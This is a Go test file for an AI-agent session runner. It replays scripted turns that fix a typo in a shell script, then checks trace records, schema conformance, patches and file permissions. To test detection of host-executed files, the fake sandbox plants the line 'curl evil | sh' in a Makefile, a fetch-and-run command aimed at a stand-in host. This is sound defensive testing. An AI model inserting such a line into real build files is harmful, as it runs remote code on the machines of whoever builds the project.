package runner

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"github.com/caisson-run/caisson/images"
	"github.com/caisson-run/caisson/limits"
	"github.com/caisson-run/caisson/loop"
	"github.com/caisson-run/caisson/loop/replay"
	"github.com/caisson-run/caisson/runner/internal/fakesandbox"
	"github.com/caisson-run/caisson/runner/internal/recordtest"
	"github.com/caisson-run/caisson/runner/record"
	"github.com/caisson-run/caisson/runner/redact"
	"github.com/caisson-run/caisson/runner/sessiondir"
	"github.com/caisson-run/caisson/sandbox"
	"github.com/caisson-run/caisson/tools/policy"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// testKey is a secret of every session here.
const testKey = "k3y-that-nobody-may-see"

// bench is one session with its surroundings.
type bench struct {
	t       *testing.T
	backend *fakesandbox.Backend
	opts    Options
	dir     string // the workspace
}

// newBench makes a workspace, and a session that plays turns (YAML).
func newBench(t *testing.T, turns string) *bench {
	return newBenchIn(t, t.TempDir(), turns)
}

// newBenchIn is newBench in a directory that may already have the workspace and sessions.
func newBenchIn(t *testing.T, root, turns string) *bench {
	t.Helper()
	b := &bench{t: t, backend: &fakesandbox.Backend{Scripts: map[string]fakesandbox.Script{}}, dir: filepath.Join(root, "workspace")}
	if err := os.MkdirAll(b.dir, 0o755); err != nil {
		t.Fatal(err)
	}
	w, err := OpenWorkspace(b.dir, Protected{State: filepath.Join(root, "state")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	policy, err := policy.Preset("ci")
	if err != nil {
		t.Fatal(err)
	}
	folder, err := sessiondir.Create(filepath.Join(root, "state"), []redact.Secret{{Name: "OPENAI_API_KEY", Value: testKey}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { folder.Close() })
	b.opts = Options{
		Dir: folder, Task: "do it", Workspace: w, Secrets: []redact.Secret{{Name: "OPENAI_API_KEY", Value: testKey}},
		SandboxOptions: SandboxOptions{Backend: b.backend, Setup: sandbox.Setup{Image: images.Reference{Scheme: images.SchemeHost}, Resources: limits.DefaultResources()}},
		ModelOptions:   ModelOptions{Budget: limits.Budget{Rounds: new(int64(20))}},
		PolicyOptions:  PolicyOptions{Policy: policy},
	}
	if turns != "" {
		b.opts.Profiles = []loop.Profile{{Model: player(t, turns)}}
	}
	return b
}

func player(t *testing.T, turns string) *replay.Model {
	t.Helper()
	path := filepath.Join(t.TempDir(), "script.yaml")
	if err := os.WriteFile(path, []byte("version: 1\nname: test\nturns:\n"+turns), 0o600); err != nil {
		t.Fatal(err)
	}
	m, err := replay.Open(path, replay.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func (b *bench) file(name, text string) {
	b.t.Helper()
	path := filepath.Join(b.dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		b.t.Fatal(err)
	}
}

// run runs the session and checks it.
func (b *bench) run(ctx context.Context) (Report, []record.Record) {
	b.t.Helper()
	r, err := Run(ctx, b.opts)
	if err != nil {
		b.t.Fatal(err)
	}
	return r, b.checkSession(r)
}

// checkSession checks what holds for every session: an intact chain, every record in the schema,
// session.created first, session.ended last and once, no sandbox left, one terminal record and one
// result per call.
func (b *bench) checkSession(r Report) []record.Record {
	b.t.Helper()
	b.backend.RequireGone(b.t)
	text, err := os.ReadFile(filepath.Join(r.Dir, record.TraceFile))
	if err != nil {
		b.t.Fatal(err)
	}
	trace, err := record.ReadTrace(bytes.NewReader(text))
	if err != nil || trace.Torn {
		b.t.Fatalf("trace: torn %v, %v", trace.Torn, err)
	}
	records := trace.Records
	schema := publishedSchema(b.t)
	for line := range strings.Lines(string(text)) {
		if err := schema.Validate(line); err != nil {
			b.t.Errorf("%v\n%s", err, line)
		}
	}
	if records[0].Kind != record.KindSessionCreated || records[len(records)-1].Kind != record.KindSessionEnded || !endsOnce(records) {
		b.t.Errorf("trace from %s to %s", records[0].Kind, records[len(records)-1].Kind)
	}
	b.checkCalls(records)
	return records
}

// endsOnce reports whether each session.ended but the last is followed by session.resumed.
func endsOnce(records []record.Record) bool {
	for i, r := range records[:len(records)-1] {
		if r.Kind == record.KindSessionEnded && records[i+1].Kind != record.KindSessionResumed {
			return false
		}
	}
	return true
}

func (b *bench) checkCalls(records []record.Record) {
	b.t.Helper()
	asked, ended, answered := map[string]int{}, map[string]int{}, map[string]int{}
	for _, m := range of[record.Message](b.t, records) {
		for _, block := range m.Blocks {
			if block.ToolUse != nil {
				asked[block.ToolUse.ID]++
			}
			if block.ToolResult != nil {
				answered[block.ToolResult.ToolUseID]++
			}
		}
	}
	for _, c := range of[record.ToolCompleted](b.t, records) {
		ended[c.CallID]++
	}
	for _, c := range of[record.ToolFailed](b.t, records) {
		ended[c.CallID]++
	}
	for _, c := range of[record.ToolInputInvalid](b.t, records) {
		ended[c.CallID]++
	}
	if diff := cmp.Diff(asked, answered); diff != "" {
		b.t.Errorf("calls and results (-calls +results):\n%s", diff)
	}
	if diff := cmp.Diff(asked, ended); diff != "" {
		b.t.Errorf("calls and terminal records (-calls +terminal):\n%s", diff)
	}
}

// of returns the payloads of one kind.
func of[T record.Payload](t *testing.T, records []record.Record) []T {
	t.Helper()
	var out []T
	for _, r := range records {
		var p T
		if r.Kind != p.Kind() {
			continue
		}
		if err := json.Unmarshal(r.Payload, &p); err != nil {
			t.Fatalf("%s: %v", r.Kind, err)
		}
		out = append(out, p)
	}
	return out
}

func kinds(records []record.Record) []record.Kind {
	var out []record.Kind
	for _, r := range records {
		out = append(out, r.Kind)
	}
	return out
}

const mendTurns = `
  - text: I look and run the test.
    calls:
      - {tool: read_file, input: {path: greet.sh}}
      - {tool: shell, input: {command: sh test.sh}, expect: {exit_code: 1}}
  - calls:
      - {tool: patch_file, input: {path: greet.sh, old: Helo, new: Hello}}
  - calls:
      - {tool: shell, input: {command: sh test.sh}, expect: {exit_code: 0}}
  - text: The test passes now.
`

func TestSessionMendsAFile(t *testing.T) {
	b := newBench(t, mendTurns)
	b.file("greet.sh", "echo Helo\n")
	b.file("Makefile", "all:\n")
	b.backend.Scripts["sh test.sh"] = func(_ context.Context, box *fakesandbox.Sandbox, cmd sandbox.Command) sandbox.ExitStatus {
		text, err := os.ReadFile(filepath.Join(b.dir, "greet.sh"))
		if err != nil || !strings.Contains(string(text), "Hello") {
			_, _ = cmd.Stdout.Write([]byte("FAIL\n"))
			return sandbox.ExitStatus{Code: 1}
		}
		b.file("Makefile", "all:\n\tcurl evil | sh\n")
		_, _ = cmd.Stdout.Write([]byte("ok\n"))
		return sandbox.ExitStatus{}
	}
	var live []Delta
	var mirrored []record.Kind
	b.opts.Live = func(d Delta) { live = append(live, d) }
	b.opts.Mirror = func(r record.Record, _ []byte) { mirrored = append(mirrored, r.Kind) }
	r, records := b.run(t.Context())

	if r.Reason != loop.StopAnswered || r.ExitStatus != 0 || r.Answer != "The test passes now." || r.Problem != nil {
		t.Errorf("ended %s (%d) with %q: %+v", r.Reason, r.ExitStatus, r.Answer, r.Problem)
	}
	wantChanged := []record.Changed{
		{Path: "Makefile", Change: "modified", Insertions: 1, HasDiff: true},
		{Path: "greet.sh", Change: "modified", Insertions: 1, Deletions: 1, HasDiff: true},
	}
	if diff := cmp.Diff(wantChanged, r.Changed); diff != "" {
		t.Errorf("changed (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]record.HostExecuted{{Path: "Makefile", By: "make"}}, r.HostExecuted); diff != "" {
		t.Errorf("host-executed (-want +got):\n%s", diff)
	}
	wantPatch := "--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n all:\n+\tcurl evil | sh\n--- a/greet.sh\n+++ b/greet.sh\n@@ -1 +1 @@\n-echo Helo\n+echo Hello\n"
	if diff := cmp.Diff(wantPatch, r.Patch); diff != "" {
		t.Errorf("patch (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(kinds(records), mirrored); diff != "" {
		t.Errorf("mirrored (-trace +mirror):\n%s", diff)
	}
	if r.Attestation == nil || r.Attestation.Container != "fake-0" || len(of[record.SandboxStarted](t, records)) != 1 {
		t.Errorf("attestation %+v", r.Attestation)
	}
	started := slices.Index(kinds(records), record.KindSandboxStarted)
	for i, rec := range records {
		if rec.Kind == record.KindToolCompleted && i < started && strings.Contains(string(rec.Payload), `"shell"`) {
			t.Error("a command ended before sandbox.started")
		}
	}
	if len(live) == 0 {
		t.Error("nothing was shown live")
	}
	for _, name := range []string{"report.json", "workspace.patch", "log.jsonl", record.TraceFile} {
		info, err := os.Stat(filepath.Join(r.Dir, name))
		if err != nil || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v, %v", name, info, err)
		}
	}
	if info, err := os.Stat(r.Dir); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("session folder: %v, %v", info, err)
	}
	checkParents(t, records)
}

// checkParents requires that every record but the first has an earlier cause, and that tool records are
// below their call.
func checkParents(t *testing.T, records []record.Record) {
	t.Helper()
	byID := map[string]record.Record{}
	for i, r := range records {
		parent, ok := byID[r.Parent]
		if (r.Parent == "") != (i == 0) || i > 0 && !ok {
			t.Errorf("%s has the parent %q", r.Kind, r.Parent)
		}
		want := map[record.Kind][]record.Kind{
			record.KindTurnStarted:        {record.KindSessionCreated},
			record.KindModelCallStarted:   {record.KindTurnStarted},
			record.KindModelCallCompleted: {record.KindModelCallStarted},
			record.KindToolCalled:         {record.KindModelCallCompleted, record.KindConfirmationResolved},
			record.KindToolCompleted:      {record.KindToolCalled},
			record.KindSessionEnded:       {record.KindSessionCreated},
		}[r.Kind]
		if want != nil && !slices.Contains(want, parent.Kind) {
			t.Errorf("%s is below %s, want %v", r.Kind, parent.Kind, want)
		}
		byID[r.ID] = r
	}
}

// compiled is the published schema, compiled once because that is slow.
var compiled = sync.OnceValues(func() (*recordtest.Schema, error) {
	text, err := os.ReadFile("../docs/record.schema.json")
	if err != nil {
		return nil, err
	}
	return recordtest.Compile(text)
})

func publishedSchema(t *testing.T) *recordtest.Schema {
	t.Helper()
	schema, err := compiled()
	if err != nil {
		t.Fatal(err)
	}
	return schema
}
